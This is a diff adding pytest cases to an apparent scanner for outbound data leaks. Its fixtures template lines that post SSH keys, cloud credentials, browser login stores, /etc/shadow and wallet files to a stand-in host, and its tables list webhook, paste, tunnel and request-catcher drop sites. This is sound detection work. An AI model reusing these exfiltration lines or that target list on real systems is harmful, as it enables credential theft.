@@ -149,3 +149,65 @@ def test_cli_check_without_allow_fails_on_static_destinations(tmp_path: Path) ->
     assert result.exit_code == 1
     (tmp_path / "a.py").write_text("import requests, os\nrequests.get(os.environ['URL'])\n")
     assert CliRunner().invoke(main, ["egress", str(tmp_path), "--isolated", "--check"]).exit_code == 0
+
+
+@pytest.mark.parametrize(("host", "path", "expected"), [
+    ("203.0.113.5", None, "raw-ip"), ("198.51.100.1", None, "raw-ip"), ("93.184.216.34", None, "raw-ip"),
+    ("10.0.0.1", None, None), ("127.0.0.1", None, None), ("169.254.169.254", None, None), ("8.8.8.8", None, None),
+    ("::1", None, None), ("discord.com", "/api/webhooks/1/x", "webhook"), ("discord.com", "/api/v10/users", None),
+    ("discord.com", None, None), ("hooks.slack.com", "/services/x", "webhook"), ("api.telegram.org", "/bot1:x/s", "webhook"),
+    ("pastebin.com", "/raw/x", "paste"), ("webhook.site", "/x", "request-catcher"), ("x.oast.fun", None, "request-catcher"),
+    ("abc.ngrok-free.app", None, "tunnel"), ("a.trycloudflare.com", None, "tunnel"), ("me.duckdns.org", None, "dynamic-dns"),
+    ("api.example.com", None, None), (None, None, None),
+])
+def test_host_risk(host, path, expected) -> None:
+    from datasec_rules._outbound import host_risk
+
+    assert host_risk(host, path) == expected
+
+
+@pytest.mark.parametrize(("var", "host", "expected"), [
+    ("GITHUB_TOKEN", "api.github.com", True), ("GH_TOKEN", "uploads.github.com", True),
+    ("GITHUB_TOKEN", "example.org", False), ("OPENAI_API_KEY", "api.openai.com", True),
+    ("ACME_API_KEY", "api.acme.example", True), ("AWS_SECRET_ACCESS_KEY", "s3.us-east-1.amazonaws.com", True),
+    ("AWS_SECRET_ACCESS_KEY", "203.0.113.5", False), ("API_KEY", "api.example.com", True),
+    ("MY_TOKEN", "example.com", False),
+])
+def test_provider_hosts_match(var: str, host: str, expected: bool) -> None:
+    from datasec_rules._outbound import provider_hosts_match
+
+    assert provider_hosts_match(var, host) is expected
+
+
+@pytest.mark.parametrize(("name", "secret"), [
+    ("GITHUB_TOKEN", True), ("AWS_REGION", True), ("DB_PASSWORD", True), ("API_KEY", True), ("SENTRY_DSN", True),
+    ("GIT_AUTHOR_NAME", False), ("GITHUB_SHA", False), ("HOME", False), ("SSL_KEY_FILE", False),
+    ("TOKEN_URL", False), ("PYTHONPATH", False),
+])
+def test_secret_variable_names(name: str, secret: bool) -> None:
+    from datasec_rules._outbound import is_secret_var
+
+    assert is_secret_var(name) is secret
+
+
+@pytest.mark.parametrize(("code", "label"), [
+    ("open(os.path.expanduser('~/.ssh/id_rsa'))", "credential-file"),
+    ("(Path.home() / '.aws' / 'credentials').read_text()", "credential-file"),
+    ("open(os.path.join(os.environ['HOME'], '.netrc'))", "credential-file"),
+    ("open(f\"{os.getenv('USERPROFILE')}\\\\.docker\\\\config.json\")", "credential-file"),
+    ("open(os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', 'rb')",
+     "browser-store"),
+    ("open('/etc/shadow')", "system-accounts"),
+    ("open(os.path.join(home, '.bitcoin', 'wallet.dat'), 'rb')", "wallet"),
+])
+def test_sensitive_paths_are_sources(code: str, label: str) -> None:
+    source = f"import os\nfrom pathlib import Path\nimport requests\nhome = '~'\nrequests.post('https://example.net', data={code})\n"
+    points = _points(source)
+    assert [p.sources for p in points] == [(label,)]
+
+
+@pytest.mark.parametrize("code", ["open('README.md')", "open(os.path.join(base, 'history.txt'))",
+                                  "'see ~/.ssh/config for details'", "open(os.environ['CONFIG_FILE'])"])
+def test_ordinary_paths_are_not_sensitive(code: str) -> None:
+    source = f"import os\nimport requests\nbase = 'docs'\nrequests.post('https://example.net', data={code})\n"
+    assert all(not (set(p.sources) - {"env:CONFIG_FILE"}) for p in _points(source))
